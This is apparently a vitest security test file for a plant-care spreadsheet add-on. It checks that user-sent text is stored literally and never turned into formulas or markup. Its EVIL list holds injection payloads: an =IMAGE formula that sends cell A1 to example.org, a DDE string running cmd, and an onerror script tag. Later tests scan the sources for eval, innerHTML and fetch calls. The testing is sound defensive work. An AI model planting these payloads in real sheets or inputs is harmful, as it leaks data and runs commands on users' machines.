/** What somebody typed, pasted, planted or sent is never run, never fetched and never more than text. */

import { readdirSync, readFileSync } from "node:fs";
import path from "node:path";
import { describe, expect, test } from "vitest";
import { openTestBook, readyBook, type TestBook } from "../sheet/workbook.ts";
import { copyGrid } from "./copy.ts";
import { LAYOUTS, type Layout } from "./layouts.ts";
import { ALL_SAMPLES, READS } from "./samples.ts";

const IMAGE = '=IMAGE("https://example.org/?"&A1)';
const EVIL = [
  IMAGE,
  "+1+1",
  "-2+3",
  "@SUM(1)",
  "'=1",
  "\t=1",
  "=cmd|' /C x'!A0",
  "<img src=x onerror=alert(1)>",
  "3/4",
];

type Json = string | number | boolean | null | Json[] | { [key: string]: Json };

/** Fields that a person fills freely; ids, days, units and names of tabs have forms of their own. */
const FREE = new Set(["note", "who", "reason", "plant", "event", "solution", "water", "target", "acid", "feed", "lot"]);
const ALSO_FREE = new Set(["source", "labelText", "verdict", "claim", "question", "result", "text"]);

function withText(value: Json, text: string): Json {
  if (Array.isArray(value)) return value.map((each) => withText(each, text));
  if (typeof value !== "object" || value === null) return value;
  return Object.fromEntries(
    Object.entries(value).map(([key, each]) => [
      key,
      typeof each === "string" && (FREE.has(key) || ALSO_FREE.has(key)) ? text : withText(each, text),
    ]),
  );
}

describe("text", () => {
  const writing = ALL_SAMPLES.filter(({ request }) => !READS.has(request.ask));
  const layout = (LAYOUTS["as set up"] as Layout).make();
  const formulasIn = (book: TestBook) =>
    book.grid.tabs().flatMap((tab) => {
      const { row, column } = tab.extent();
      if (row === 0) return [];
      const cells = tab.read({ row: 1, column: 1, rows: row, columns: column }).flat();
      return cells.flatMap(({ formula }) => (formula === "" ? [] : [formula]));
    });

  const textsIn = (book: TestBook) =>
    [
      ...[...book.userProperties.values()],
      ...book.grid
        .tabs()
        .flatMap((tab) => {
          const { row, column } = tab.extent();
          return tab.read({ row: 1, column: 1, rows: Math.max(1, row), columns: Math.max(1, column) }).flat();
        })
        .map(({ value }) => (typeof value === "string" ? value : "")),
    ].join("\n");

  test.each(writing.map(({ what, request }) => [what, request] as const))("%s stores it literally", (_, request) => {
    for (const text of EVIL) {
      const book = openTestBook({ grid: copyGrid(layout) });
      const sent = withText(JSON.parse(JSON.stringify(request)) as Json, text);
      const answer = book.ask(sent as never);
      for (const formula of formulasIn(book)) {
        // A formula of ours, on a tab that we made; nothing of what was sent stands in it.
        expect(formula).toMatch(/^=(?:FEED|WATER|METER|ROOT|POT|CHECK|TRIAL)_[A-Z0-9]+\(/);
        expect(formula).not.toMatch(/example\.org|cmd|alert/);
      }
      const isSent = JSON.stringify(sent) !== JSON.stringify(request);
      if (answer.ok && isSent) expect(textsIn(book), text).toContain(text.trim());
    }
  });
});

describe("a formula that somebody planted in a log cell", () => {
  test("reaches the panel as its value, and its cell is flagged on the sheet", () => {
    const book = readyBook();
    const row = (heading: string) => (book.values("Care log")[0] ?? []).indexOf(heading) + 1;
    const tab = book.grid.tab("Care log");
    for (const [heading, value] of [
      ["Date", "2026-03-01"],
      ["Plant", "Fern"],
      ["Event", "Repot"],
    ] as const) {
      tab.write(2, row(heading), [[{ value }]]);
    }
    tab.write(2, row("Note"), [[{ value: "seen", formula: IMAGE }]]);
    const [care] = book.reply({ ask: "load" }).care.rows;
    expect(care?.note).toBe("seen");
    expect(JSON.stringify(book.reply({ ask: "load" }))).not.toContain("IMAGE");
    const rules = tab.conditionalRules().filter(({ formula }) => formula.startsWith("=ISFORMULA("));
    expect(rules).toHaveLength(1);
    const covered = rules[0]?.areas.some((area) => area.column === row("Note") && area.row === 2);
    expect(covered).toBe(true);
  });

  test("is in the way of a write only where it would be overwritten, and then named", () => {
    const book = readyBook();
    book.grid.tab("Care log").write(2, 2, [[{ value: "", formula: IMAGE }]]);
    const { code, sentence } = book.refusal(ALL_SAMPLES.find(({ request }) => request.ask === "log care")?.request);
    expect(code).toBe("formula-in-the-way");
    expect(sentence).toMatch(/^Cell B2 of “Care log” holds a formula/);
  });
});

describe("the sources", () => {
  const files = (folder: string): string[] =>
    readdirSync(folder, { withFileTypes: true }).flatMap((entry) => {
      const name = path.join(folder, entry.name);
      return entry.isDirectory() ? files(name) : /\.tsx?$/.test(name) ? [name] : [];
    });

  test("of the panel draw text only", () => {
    for (const file of files("sidebar")) {
      const code = readFileSync(file, "utf8");
      expect(code, file).not.toMatch(/dangerouslySetInnerHTML|innerHTML|outerHTML|insertAdjacentHTML|document\.write/);
      expect(code, file).not.toMatch(/\beval\(|new Function\(/);
    }
  });

  test("fetch nothing and reach for no service beyond the sheet, the panel, the lock and one's own properties", () => {
    for (const file of [...files("src/host"), ...files("src/app"), ...files("src/sheet")]) {
      const code = readFileSync(file, "utf8");
      expect(code, file).not.toMatch(/UrlFetchApp|DriveApp|GmailApp|MailApp|\bfetch\(|XMLHttpRequest|Session\./);
    }
    for (const file of files("sidebar")) {
      expect(readFileSync(file, "utf8"), file).not.toMatch(/\bfetch\(|XMLHttpRequest|WebSocket|sendBeacon|EventSource/);
    }
  });

  test("write formulas for boards and for what is on hand only, never from what was sent", () => {
    const writers = [...files("src/sheet"), ...files("src/app")].filter((file) =>
      /writeFormula\(/.test(readFileSync(file, "utf8")),
    );
    for (const file of writers) expect(file).toMatch(/src\/sheet\/(port|boards|on-hand)\.ts$/);
    for (const file of files("src/app"))
      expect(readFileSync(file, "utf8"), file).not.toMatch(/setFormula|writeFormula/);
  });

  test("write text with its apostrophe in one place", () => {
    const setters = files("src/host").filter((file) => /\.setValues?\(|appendRow\(/.test(readFileSync(file, "utf8")));
    expect(setters).toEqual(["src/host/tab.ts"]);
  });
});
